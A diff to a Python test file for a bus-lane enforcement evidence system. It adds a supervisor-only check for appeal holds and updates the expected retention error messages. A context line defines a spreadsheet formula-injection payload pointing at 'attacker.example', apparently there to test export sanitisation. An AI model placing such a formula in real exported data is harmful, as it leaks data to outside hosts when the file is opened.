@@ -8,6 +8,7 @@ evidence written by the real writer); the kill is a real SIGKILL of a process wr
 from __future__ import annotations
 
 import csv
+import getpass
 import io
 import json
 import os
@@ -27,6 +28,8 @@ from evidence.manifest import FileRecord, hash_file
 from evidence.pack.builder import PackError, _zip, build_pack
 from evidence.retention import RetentionRules
 from pipeline.store import Store, now
+from pipeline.users import UsersFile
+from review_app.config import DB_ENV, USERS_ENV
 from review_app.services import appeals
 from review_app.services.cases import load_case
 from review_app.services.gaps import gaps_export
@@ -34,7 +37,6 @@ from review_app.services.users import User
 from tests.conftest import BUS_LANE_SITE, buslane
 from tests.test_pack import copy_night
 from tests.test_review_app import click, goto, signed_in, users_file  # noqa: F401 (users_file is a fixture)
-from review_app.config import DB_ENV, USERS_ENV
 from whitelist.gaps import flag_gap
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak","Click me")'
@@ -210,14 +212,20 @@ def exported(night, tmp_path_factory) -> Exported:
     return Exported(store.path, root, held, packed)
 
 
-def test_retention_keeps_held_and_recently_exported_cases_and_refuses_negative_days(exported, tmp_path):
+def test_retention_keeps_held_and_recently_exported_cases_and_refuses_negative_days(exported, tmp_path,
+                                                                                    monkeypatch):
     db, root = tmp_path / "cases.duckdb", tmp_path / "root"
     shutil.copy(exported.db, db)
     shutil.copytree(exported.root, root)
     buslane("evidence", "root", "--db", db, "--move-root", root)
     store = Store(db)
+    officer = buslane("appeal", "hold", exported.held, "--db", db, "--reason", "appeal lodged", check=False)
+    assert officer.returncode == 2 and "only a supervisor can do this" in officer.stderr  # the session's CLI officer
+    supervisors = tmp_path / "users.yaml"
+    UsersFile(supervisors).add("sam", "supervisor", "not used on the command line", os_user=getpass.getuser())
+    monkeypatch.setenv(USERS_ENV, str(supervisors))  # the OS user acts as sam
     hold = buslane("appeal", "hold", exported.held, "--db", db, "--reason", "TPT appeal 2160012345")
-    assert f"case {exported.held} held for appeal by cli:" in hold.stdout
+    assert f"case {exported.held} held for appeal by sam" in hold.stdout
     twice = buslane("appeal", "hold", exported.held, "--db", db, "--reason", "again", check=False)
     assert twice.returncode == 2 and "already held for appeal" in twice.stderr
 
@@ -237,7 +245,8 @@ def test_retention_keeps_held_and_recently_exported_cases_and_refuses_negative_d
 
     for option in ("--validated-days", "--rejected-days", "--exempt-days", "--exported-days"):
         refused = buslane("retention", "apply", "--db", db, option, "-1", check=False)
-        assert refused.returncode == 2 and f"Invalid value for '{option}': -1 is not in the range x>=0" in refused.stderr
+        said = " ".join(re.sub("[│╭╮╰╯─]", " ", refused.stderr).split())  # typer draws a box around it
+        assert refused.returncode == 2 and f"Invalid value for '{option}': Input should be greater than or equal to 0" in said
     with pytest.raises(ValueError, match="validated_days is -1: day counts must not be negative"):
         RetentionRules(validated_days=-1)
 
